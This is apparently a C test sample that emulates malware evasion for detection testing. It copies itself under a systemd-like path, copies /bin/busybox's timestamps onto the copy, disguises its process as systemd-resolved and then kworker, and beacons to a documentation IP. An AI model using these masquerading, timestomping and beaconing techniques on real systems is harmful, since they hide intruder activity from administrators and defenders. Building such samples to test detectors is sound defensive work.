/* Wild-set stand-in: masquerade + timestomp + process rename (harmless: copies itself inside
 * the sandbox and sends one beacon to a documentation address).
 * First run: copies /proc/self/exe to /usr/lib/systemd/systemd-resolve-helper, gives the copy
 * the timestamps of /bin/busybox (utimensat, as `touch -r` does), and execs it with argv[0]
 * "/lib/systemd/systemd-resolved". The copy renames its thread to "kworker/u8:3" and sends a
 * short beacon to 198.51.100.23:8443. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <unistd.h>

static const char *copy = "/usr/lib/systemd/systemd-resolve-helper";

static int install(void) {
    int in = open("/proc/self/exe", O_RDONLY);
    mkdir("/usr/lib/systemd", 0755);
    int out = open(copy, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (in < 0 || out < 0) return -1;
    char buf[65536];
    ssize_t n;
    while ((n = read(in, buf, sizeof buf)) > 0) write(out, buf, (size_t)n);
    close(in);
    close(out);
    struct stat ref;
    if (stat("/bin/busybox", &ref) == 0) {
        struct timespec times[2] = {ref.st_atim, ref.st_mtim};
        utimensat(AT_FDCWD, copy, times, 0);
    }
    return 0;
}

int main(int argc, char **argv) {
    (void)argc;
    if (strcmp(argv[0], "/lib/systemd/systemd-resolved") != 0) {
        if (install() != 0) return 1;
        char *args[] = {"/lib/systemd/systemd-resolved", NULL};
        execv(copy, args);
        return 1;
    }
    prctl(PR_SET_NAME, "kworker/u8:3", 0, 0, 0);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(8443)};
    inet_pton(AF_INET, "198.51.100.23", &to.sin_addr);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct timeval tv = {3, 0};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    if (connect(fd, (struct sockaddr *)&to, sizeof to) == 0) {
        char hello[128];
        int n = snprintf(hello, sizeof hello, "HELO %d kworker\n", getpid());
        write(fd, hello, (size_t)n);
        read(fd, hello, sizeof hello);
    }
    close(fd);
    return 0;
}
